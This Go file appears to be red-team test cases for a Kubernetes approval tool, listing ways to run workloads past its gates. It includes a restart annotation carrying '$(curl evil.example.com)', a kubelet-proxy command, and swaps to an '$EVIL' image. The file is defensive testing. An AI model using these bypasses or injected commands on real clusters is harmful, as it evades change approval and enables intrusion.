// Copyright 2026 The Countersign Authors.
// SPDX-License-Identifier: Apache-2.0

package redteam

// Everything that runs containers is gated, whatever kind it is and whoever makes it.
var workloads = []attack{
	door("Deployment without approval", "applies the release, and hopes that nobody asks", alice, "workloads.gate",
		create(deployment())),
	door("StatefulSet instead", "another kind, which a rule for Deployments forgets", alice, "workloads.gate",
		create(like("StatefulSet", "apps/v1"))),
	door("DaemonSet instead", "the same on every node", alice, "workloads.gate",
		create(like("DaemonSet", "apps/v1"))),
	door("Job instead", "runs it once, which is often enough", alice, "workloads.gate", create(job())),
	door("Job with a generated name", "a name that no approval can know", alice, "workloads.gate",
		create(job(`{metadata: {name: null, generateName: $ME-}}`))),
	door("CronJob instead", "runs it tonight", alice, "workloads.gate", create(cronJob())),
	door("ReplicaSet instead", "what a Deployment would have made", owner, "workloads.gate",
		create(like("ReplicaSet", "apps/v1"))),
	door("ReplicationController instead", "the kind that everybody has forgotten", owner, "workloads.gate",
		create(like("ReplicationController", "v1", `{spec: {selector: null}}`))),
	door("PodTemplate for somebody to use", "leaves a template for a controller that runs such", owner, "templates.gate",
		create(merged(like("PodTemplate", "v1", `{spec: null}`), `{template: `+template+`}`))),
	door("Bare Pod", "no workload at all", owner, "pods.gate", create(pod())),
	door("Bare Pod by a cluster administrator", "rights of RBAC are no approval", mallory, "pods.gate",
		create(pod())),
	{
		name: "Pod of a controller for custom kinds", does: "has an operator make the Pod, by an object that nobody gates",
		as: stranger, call: create(pod()),
		by: entry("pods.gate"), says: "is neither a person nor a bot of a PipelineRole",
	},
	{
		name: "Deployer from elsewhere", does: "has Argo CD, Flux or Crossplane apply it from a namespace that nobody guards",
		as: deployer, call: create(deployment()),
		by: entry("workloads.gate"), says: "is neither a person nor a bot of a PipelineRole",
	},
	door("Image of a running Pod", "the image of a Pod can be changed while it runs", owner, "pods.gate",
		amend("Pod shop/$ME", "", `{spec: {containers: [{name: web, image: "$EVIL"}]}}`),
		brought(owner, create(calmPod))),
	door("Ephemeral container", "kubectl debug", alice, "pods.gate",
		amend("Pod shop/$ME", "ephemeralcontainers",
			`{spec: {ephemeralContainers: [{name: shell, image: "$EVIL", targetContainerName: web}]}}`),
		brought(owner, create(calmPod))),
	door("Resize of a running Pod", "starves it through pods/resize", owner, "pods.gate",
		amend("Pod shop/$ME", "resize", `{spec: {containers: [`+sized("1m")+`]}}`),
		brought(owner, create(merged(calmPod, `{spec: {containers: [`+sized("100m")+`]}}`)))),
	door("Mirror Pod", "says that a kubelet has it from a file, and hopes for an exemption", owner, "pods.gate",
		create(pod(`{metadata: {annotations: {kubernetes.io/config.mirror: x}}, spec: {nodeName: n1}}`))),
	{
		name: "Scale from zero", does: "starts something old that was never approved, by its scale",
		as: mallory, before: leftover,
		call: changeAt("Deployment $ME/$ME", "scale", `{spec: {replicas: 3}}`),
		by:   entry("scale.gate"),
	},
	{
		name: "Scale from zero by a patch", does: "the same without the subresource",
		as: mallory, before: leftover,
		call: change("Deployment $ME/$ME", `{spec: {replicas: 3}}`),
		by:   entry("workloads.gate"),
	},
	door("Suspended CronJob", "lets go what was approved as suspended", alice, "workloads.gate",
		change("CronJob shop/$ME", `{spec: {suspend: false}}`),
		brought(alice, create(cronJob(`{spec: {suspend: true}}`)))),
	door("Replace by force", "kubectl replace --force: delete it first, then it is no change", alice, "delete.gate",
		remove("Deployment shop/$ME"), brought(alice, create(deployment()))),
	door("Deletion in bulk", "deletecollection is another verb", owner, "delete.gate",
		removeAll("Deployment shop/", "bulk=$ME"),
		brought(alice, create(deployment(`{metadata: {labels: {bulk: $ME}}}`)))),
	{
		name: "Text in the annotation of a restart", does: "puts a payload where kubectl rollout restart puts a time",
		as: alice, before: []step{brought(alice, create(deployment()))},
		call: change("Deployment shop/$ME", restarted("$(curl evil.example.com)")),
		by:   entry("workloads.gate"), says: "kubectl countersign approve",
		right: []step{by(alice, change("Deployment shop/$ME", restarted("2030-01-31T12:00:00Z")))}, rightly: "a time",
	},
	{
		name: "Text like a time of a restart", does: "writes what a pattern takes for a time: the address of her server",
		as: alice, before: []step{brought(alice, create(deployment()))},
		call: change("Deployment shop/$ME", restarted("10.0.0.66:8443")),
		by:   entry("workloads.gate"), says: "kubectl countersign approve",
		right: []step{by(alice, change("Deployment shop/$ME", restarted("2030-01-31T12:00:00.5+02:00")))}, rightly: "a time",
	},
	{
		name: "Reaching through a node", does: "runs a command through nodes/proxy, past admission and audit",
		as: owner, before: []step{given(node)}, call: proxiedNode,
		by: rights("no role gives `nodes/proxy`, and none can", owner,
			`{apiGroups: [""], resources: [nodes/proxy], verbs: [get, create]}`),
	},
	{
		name: "Node of one's own choice", does: "binds a Pod that waits to a node where the attacker reads its memory",
		as: owner, before: []step{brought(owner, create(calmPod))},
		call: createAt("Pod shop/$ME", "binding", `{apiVersion: v1, kind: Binding, metadata: {name: $ME},
			target: {kind: Node, name: mine}}`),
		verdict: limit, limit: "Who may bind Pods, which no capability gives, chooses where they run",
		seen: onServerRecord, trace: auditedByServer("pods/$ME/binding", "alice@example.com"),
	},
	{
		name: "Eviction to pull a tag again", does: "pushes another image under the tag, and has the Pod made anew",
		as: alice, before: []step{brought(owner, create(calmPod))},
		call: createAt("Pod shop/$ME", "eviction", `{apiVersion: policy/v1, kind: Eviction,
			metadata: {name: $ME, namespace: shop}}`),
		verdict: limit, limit: "An image that is named by a tag is whatever the registry says when it is pulled",
		seen: onServerRecord, trace: auditedByServer("pods/$ME/eviction", "alice@example.com"),
	},
}

// door is another way to run something, about which an entry asks.
func door(name, does string, as identity, of string, c call, before ...step) attack {
	return attack{
		name: name, does: does, as: as, before: before, call: c, by: entry(of), says: "kubectl countersign approve",
	}
}

// calmPod runs what people have looked at.
var calmPod = pod(`{spec: {containers: [{name: web, image: "$GOOD"}]}}`)

func sized(cpu string) string {
	return `{name: web, image: "$GOOD", resources: {requests: {cpu: ` + cpu + `}, limits: {cpu: 200m}}}`
}

func restarted(when string) string {
	return `{spec: {template: {metadata: {annotations: {kubectl.kubernetes.io/restartedAt: "` + when + `"}}}}}`
}

// leftover is something that was scaled to nothing before its namespace joined production.
var leftover = []step{
	given(`{apiVersion: v1, kind: Namespace, metadata: {name: $ME}}`),
	given(deployment(`{metadata: {namespace: $ME}, spec: {replicas: 0}}`)),
	by(installer, change("Namespace $ME", `{metadata: {labels: {countersign.dev/environment: production}}}`)),
	gated("$ME"),
}

// node is one that nobody can reach.
const node = `{apiVersion: v1, kind: Node, metadata: {name: $ME}, status: {addresses: [{type: InternalIP,
	address: 127.0.0.1}]}}`

// proxiedNode runs a command by the kubelet of the node.
var proxiedNode = func() call {
	c := raw("GET", "/api/v1/nodes/$ME/proxy/run/shop/web/web?cmd=id", "")
	c.connects = true
	return c
}()
